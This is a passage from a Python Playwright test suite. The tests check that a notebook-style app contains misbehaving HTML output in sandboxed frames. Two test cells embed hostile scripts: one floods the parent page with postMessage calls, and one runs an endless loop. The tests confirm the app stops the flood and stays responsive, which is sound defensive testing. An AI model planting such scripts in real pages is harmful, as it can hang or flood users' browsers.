                    "text/html": "<script>setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({webipy: 'ready'}, '*') }, 1)</script>"
                }
            )
        )
        expect(cell.locator(".out")).to_contain_text("sent more messages than a page can take")
        expect(cell.locator("iframe")).to_have_count(0)

    def test_a_frame_that_never_rests_does_not_hold_the_page(self) -> None:
        """A loop without end in a frame leaves the page to answer."""
        session, page = self.run_cells(
            shown({"text/html": "<p>on</p><script>setTimeout(() => { for (;;); }, 200)</script>"})
        )
        expect(page.locator("iframe.sealed")).to_have_attribute("style", re.compile("height"))
        other = self.add_cell(session, "1 + 1")
        self.execute(session, "print(6 * 7)", other)
        expect(page.locator(f"#cell-{other} .out")).to_contain_text("42")
